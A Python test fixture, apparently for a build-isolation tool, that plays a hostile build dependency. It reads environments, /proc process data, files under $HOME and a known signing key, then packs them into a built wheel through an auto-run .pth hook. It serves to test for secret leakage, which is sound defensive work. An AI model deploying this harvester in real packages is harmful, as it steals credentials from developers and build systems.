"""A hostile build dependency's payload: gather every secret this process could reach, keep it as loot.

Standard library only. :func:`probe` reads what a build step's code can read on its own, as an attacker in a
build dependency or a source tree would: its own environment, the environment and argv of every process it
can see in /proc (its parents' included), its mounts, every file whose path it saw there (the way it would
learn where a signing key lives), the files it was told about (``targets.json`` in the tree: paths an attacker knows,
the signing key's among them), and everything under $HOME. It writes what it found, each piece once
(content-addressed), into ``kiln-loot/`` beside the build venv (``$VIRTUAL_ENV/../kiln-loot``); the tree's
setup.py puts the loot into the wheel. The test then looks for each secret in the wheel.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import sys
from pathlib import Path

_PATH = re.compile(r"/[A-Za-z0-9._+@%-][A-Za-z0-9._+@%/-]*")
MAX_FILE = 64 * 1024
MAX_HOME_ENTRIES = 400


def loot_dir() -> Path | None:
    """Beside the venv this process runs in (a build venv, in the work directory the test reads), never
    $VIRTUAL_ENV's: that is whatever shell started the tests, a checkout's .venv among them (issue 48: loot
    was written into the checkout)."""
    return Path(sys.prefix).parent / "kiln-loot" if sys.prefix != sys.base_prefix else None


def _read(path: str) -> str:
    try:
        with open(path, "rb") as handle:
            return handle.read(MAX_FILE).decode("utf-8", "replace")
    except OSError as exc:
        return f"<{type(exc).__name__}: {exc.strerror}>"


def _targets() -> list[str]:
    """Paths an attacker knows about this builder (the tree's targets.json, found from the working directory
    or the tree the setup.py runs in)."""
    for base in (Path.cwd(), *Path.cwd().parents):
        found = base / "targets.json"
        if found.is_file():
            return list(json.loads(found.read_text())["paths"])
    return []


def _home() -> dict[str, str]:
    home = os.environ.get("HOME") or os.path.expanduser("~")
    out: dict[str, str] = {}
    for root, dirs, files in os.walk(home):
        dirs[:] = [d for d in dirs if d not in ("proc",)]
        for name in files:
            if len(out) >= MAX_HOME_ENTRIES:
                return out
            path = os.path.join(root, name)
            out[path] = _read(path)
    return out


def gather(where: str) -> dict[str, object]:
    procs: dict[str, dict[str, str]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            procs[entry] = {
                "environ": _read(f"/proc/{entry}/environ").replace("\0", "\n"),
                "cmdline": _read(f"/proc/{entry}/cmdline").replace("\0", " "),
            }
    seen = "\n".join([*os.environ.values(), *(p["environ"] + "\n" + p["cmdline"] for p in procs.values())])
    learned = sorted({m for m in _PATH.findall(seen) if os.path.isfile(m)})[:300]
    return {
        "where": where,
        "pid": os.getpid(),
        "argv": sys.argv,
        "environ": dict(os.environ),
        "proc": procs,
        "learned": {path: _read(path) for path in learned},
        "targets": {path: _read(path) for path in _targets()},
        "home": _home(),
        "mounts": _read("/proc/self/mountinfo"),
    }


def probe(where: str) -> None:
    """Gather and keep the loot (each piece once: a file named by its digest)."""
    found = json.dumps(gather(where), sort_keys=True)
    out = loot_dir()
    if out is None:
        return
    out.mkdir(parents=True, exist_ok=True)
    name = hashlib.sha256(found.encode()).hexdigest()[:24]
    (out / f"{name}.json").write_text(found)


def at_start() -> None:
    """From kiln_probe.pth: every Python that starts in the build venv probes once."""
    try:
        probe(f"python start: {' '.join(sys.argv)[:200]}")
    except Exception:  # noqa: BLE001 - a probe never breaks the interpreter it runs in
        pass
